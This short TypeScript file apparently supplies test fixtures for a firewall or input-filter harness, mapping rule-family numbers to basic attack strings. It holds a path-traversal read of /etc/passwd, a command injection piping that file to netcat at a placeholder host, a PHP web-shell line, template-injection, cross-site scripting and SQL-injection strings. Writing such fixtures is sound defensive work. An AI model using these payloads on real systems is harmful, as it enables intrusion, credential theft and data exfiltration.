/** Attacks of the plainest kind, one or two of each language, for tests that have no regression suite at hand. */
import type { Attack } from './attack.ts';

const TEXTS = [
  ['930', '../../../../etc/passwd'],
  ['932', '; cat /etc/passwd | nc 192.0.2.1 4444'],
  ['933', "<?php system($_GET['c']); ?>"],
  ['934', '{{constructor.constructor("return process")().exit()}}'],
  ['941', '<script>alert(document.cookie)</script>'],
  ['941', '<img src=x onerror=alert(1)>'],
  ['942', "1' union select name, password from users-- "],
  ['942', "x' or '1'='1"],
] as const;

export const OWN_ATTACKS: readonly Attack[] = TEXTS.map(([family, payload], index) => ({
  name: `own-${index}`,
  family,
  place: 'argument',
  field: '',
  payload,
}));
